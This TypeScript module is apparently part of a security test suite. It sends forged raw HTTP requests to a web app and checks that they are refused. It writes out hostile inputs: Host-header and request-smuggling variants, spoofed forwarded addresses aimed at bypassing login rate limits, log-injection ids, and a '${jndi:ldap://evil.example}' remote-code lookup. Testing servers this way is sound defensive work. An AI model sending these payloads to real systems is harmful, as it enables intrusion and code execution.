import { connect } from 'node:net';
import { isHandled, isRefused, send } from './caller.ts';
import { createMember, type Situation } from './situation.ts';
import type { Tally } from './tally.ts';

/** Sends bytes as they are; returns the status of the reply, 0 without one, and the reply. */
function sendRaw(address: string, head: readonly string[]): Promise<{ status: number; text: string }> {
  const { hostname, port } = new URL(address);
  return new Promise((resolve) => {
    let text = '';
    const socket = connect(Number(port), hostname, () => socket.write([...head, '', ''].join('\r\n')));
    const end = () => {
      socket.destroy();
      resolve({ status: Number(/^HTTP\/1\.[01] (\d{3})/.exec(text)?.[1] ?? 0), text });
    };
    socket
      .setTimeout(3_000, end)
      .on('data', (chunk) => (text += chunk.toString()))
      .on('error', end)
      .on('close', end);
  });
}

/** Requests that no browser sends: hosts, targets, forwarded addresses, ids of requests and of tasks. */
export async function forgeRequests(situation: Situation, tally: Tally): Promise<void> {
  await forgeHosts(situation, tally);
  await forgeForwarded(situation, tally);
  await forgeRequestIds(situation, tally);
  await forgeTaskIds(situation, tally);
}

async function forgeHosts({ address, stranger }: Situation, tally: Tally): Promise<void> {
  const { host } = new URL(address);
  const close = 'Connection: close';
  const cookie = `Cookie: ${stranger.cookie}`;
  const heads: [string, string[], (status: number, text: string) => boolean][] = [
    [
      'two hosts',
      ['GET /readyz HTTP/1.1', `Host: ${host}`, 'Host: evil.example', close],
      (status) => status === 400,
    ],
    ['no host', ['GET /readyz HTTP/1.1', close], (status) => status === 400],
    [
      'another host',
      ['GET /login HTTP/1.1', 'Host: evil.example', close],
      (status, text) => status > 0 && status < 500 && !text.includes('evil.example'),
    ],
    [
      'a target with a host',
      [`GET http://evil.example/profile/view HTTP/1.1`, `Host: ${host}`, cookie, close],
      (status, text) => status > 0 && status < 500 && !text.includes('evil.example'),
    ],
    [
      'a folded header',
      ['GET /readyz HTTP/1.1', `Host: ${host}`, 'X-A: b', ' Host: evil.example', close],
      (status) => status === 400 || status === 200,
    ],
    [
      'length and chunks',
      ['POST /login HTTP/1.1', `Host: ${host}`, 'Content-Length: 5', 'Transfer-Encoding: chunked', close],
      (status) => status === 400,
    ],
    [
      'two lengths',
      ['POST /login HTTP/1.1', `Host: ${host}`, 'Content-Length: 5', 'Content-Length: 6', close],
      (status) => status === 400,
    ],
    ['a null byte', ['GET /\0 HTTP/1.1', `Host: ${host}`, close], (status) => status === 400],
  ];
  for (const [what, head, isHarmless] of heads) {
    const { status, text } = await sendRaw(address, head);
    tally.attempt('forged requests', isHarmless(status, text), `${what} answered ${status}`);
  }
  const { status, text } = await send(address, 'GET', '/.well-known/security.txt');
  tally.attempt(
    'forged requests',
    status === 404 || /^Expires: /m.test(text),
    `security.txt answered ${status}`,
  );
}

/** Nobody is trusted to say for whom they ask, so one network has one budget whatever it claims. */
async function forgeForwarded({ address }: Situation, tally: Tally): Promise<void> {
  const from = '127.9.9.9';
  const claims = (count: number) =>
    [
      `10.0.0.${count}`,
      `10.0.1.${count}:4711`,
      `[2001:db8::${count}]:80`,
      `unknown, 10.0.2.${count}`,
      `"10.0.3.${count}"`,
      '☃',
    ][count % 6] ?? '';
  let checked = 0;
  for (let count = 0; count < 240; count += 1) {
    const headers = {
      'x-forwarded-for': encodeURI(claims(count)),
      forwarded: `for=${encodeURI(claims(count))}`,
    };
    const body = { emailId: `nobody${count}@hidden.example`, password: 'wrong' };
    const { status } = await send(address, 'POST', '/login', { body, headers, from });
    if (status !== 429) checked += 1;
    if (!isHandled(status)) tally.attempt('forged requests', false, `a claimed address answered ${status}`);
  }
  tally.attempt('forged requests', checked <= 120, `${checked} of 240 log-ins from one address were checked`);
}

async function forgeRequestIds({ address, stranger }: Situation, tally: Tally): Promise<void> {
  for (const id of [
    'a'.repeat(5_000),
    '"} {"level":"error"',
    'Forged\tid',
    '../../etc',
    '${jndi:ldap://evil.example}',
  ]) {
    const sending = { cookie: stranger.cookie, headers: { 'x-request-id': id } };
    const { status, headers } = await send(address, 'GET', '/profile/view', sending);
    const isOwn = isHandled(status) && !Object.values(headers).flat().includes(id);
    tally.attempt('forged requests', isOwn, `the id ${id.slice(0, 20)} is taken over: ${status}`);
  }
}

/** A task with the `clientId` of somebody else's task is another one, and one id makes one task. */
async function forgeTaskIds({ address, owner, mate, ids }: Situation, tally: Tally): Promise<void> {
  const clientId = '0195a000-0000-7000-8000-00000000beef';
  const path = `/api/project/${ids.projectId}/task`;
  const create = (who: typeof owner, title: string) => who.call('POST', path, { title, clientId });
  const first = await Promise.all(Array.from({ length: 20 }, (_, at) => create(owner, `Twenty ${at}`)));
  const made = new Set(first.flatMap(({ json }) => (json?.data?._id === undefined ? [] : [json.data._id])));
  tally.attempt('ids of tasks', made.size === 1, `twenty requests at once made ${made.size} tasks`);
  const foreign = await create(mate, 'Mine');
  tally.attempt(
    'ids of tasks',
    isHandled(foreign.status) && !made.has(foreign.json?.data?._id) && !foreign.text.includes('Twenty'),
    'the id of another member leads to their task',
  );
  const outsider = await createMember(address, 'Outsider');
  const { status, text } = await create(outsider, 'Mine');
  tally.attempt('ids of tasks', isRefused(status) && !text.includes('Twenty'), `an outsider got ${status}`);
}
